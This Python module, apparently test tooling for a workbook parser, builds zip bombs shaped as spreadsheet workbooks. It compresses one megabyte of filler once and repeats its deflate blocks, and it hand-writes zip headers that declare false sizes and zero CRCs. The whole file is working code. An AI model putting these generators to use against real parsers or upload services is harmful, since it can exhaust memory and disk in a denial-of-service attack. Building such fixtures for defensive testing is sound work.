"""Zip bombs shaped as workbooks, built in milliseconds and a few megabytes.

A part of gigabytes is never made in memory: deflate's blocks after a full flush start
afresh, so one megabyte of filler is compressed once (to about a kilobyte) and its blocks
repeated. The archive is written by hand, so that a part can declare sizes that lie.
"""

from __future__ import annotations

import dataclasses
import io
import struct
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path

MB = 1024 * 1024
_PIECE = MB


@dataclass(frozen=True)
class Member:
    """One part as the archive stores it: its deflated bytes and what its headers declare."""

    name: str
    deflated: bytes
    crc: int
    size: int  # the uncompressed size the headers declare
    method: int = zipfile.ZIP_DEFLATED
    stored: int | None = None  # the compressed size they declare (None: the true one)


def deflated(data: bytes) -> Member:
    """A part holding `data`, honestly described (the name is set by the caller)."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return Member("", compressor.compress(data) + compressor.flush(), zlib.crc32(data), len(data))


def repeated(
    head: bytes, filler: bytes, megabytes: int, tail: bytes, *, crc: bool = False
) -> Member:
    """A part of `head`, `megabytes` MB of one filler byte, then `tail`. Its CRC is left 0
    unless asked for (a reader that checks it has read the whole part, too late anyway)."""
    fresh = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    start = fresh.compress(head) + fresh.flush(zlib.Z_FULL_FLUSH)
    block = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    piece = block.compress(filler * _PIECE) + block.flush(zlib.Z_FULL_FLUSH)
    end = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    finish = end.compress(tail) + end.flush()
    checksum = 0
    if crc:
        checksum = zlib.crc32(head)
        for _ in range(megabytes):
            checksum = zlib.crc32(filler * _PIECE, checksum)
        checksum = zlib.crc32(tail, checksum)
    size = len(head) + megabytes * _PIECE + len(tail)
    return Member("", start + piece * megabytes + finish, checksum, size)


def parts_of(workbook: bytes) -> list[Member]:
    """Every part of a real workbook, deflated again, in order."""
    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        return [_named(deflated(archive.read(info)), info.filename) for info in archive.infolist()]


def with_parts(workbook: bytes, parts: dict[str, Member]) -> bytes:
    """The workbook with the named parts replaced (or added)."""
    kept = [m for m in parts_of(workbook) if m.name not in parts]
    return write_zip(kept + [_named(part, name) for name, part in parts.items()])


def declaring(part: Member, size: int, stored: int | None = None) -> Member:
    """The part with headers that declare another size (and compressed size): a lie."""
    return dataclasses.replace(part, size=size, stored=stored)


def write_zip(members: list[Member]) -> bytes:
    """A zip archive of the members, their headers saying exactly what each declares."""
    out = io.BytesIO()
    central = []
    for member in members:
        offset = out.tell()
        name = member.name.encode()
        # version, flags, method, time, date (1980-01-01), CRC, stored and declared sizes
        stored = len(member.deflated) if member.stored is None else member.stored
        common = (20, 0, member.method, 0, 0x21, member.crc, stored, member.size)
        out.write(struct.pack("<4s5H3L2H", b"PK\x03\x04", *common, len(name), 0))
        out.write(name + member.deflated)
        # ... then name, extra, comment, disk, internal and external attributes, offset
        entry = struct.pack(
            "<4sH5H3L5H2L", b"PK\x01\x02", 20, *common, len(name), 0, 0, 0, 0, 0, offset
        )
        central.append(entry + name)
    start = out.tell()
    directory = b"".join(central)
    out.write(directory)
    count = len(members)
    out.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(directory), start, 0))
    return out.getvalue()


def save(path: Path, data: bytes) -> Path:
    """Write the archive's bytes to `path`."""
    path.write_bytes(data)
    return path


def _named(member: Member, name: str) -> Member:
    return dataclasses.replace(member, name=name)
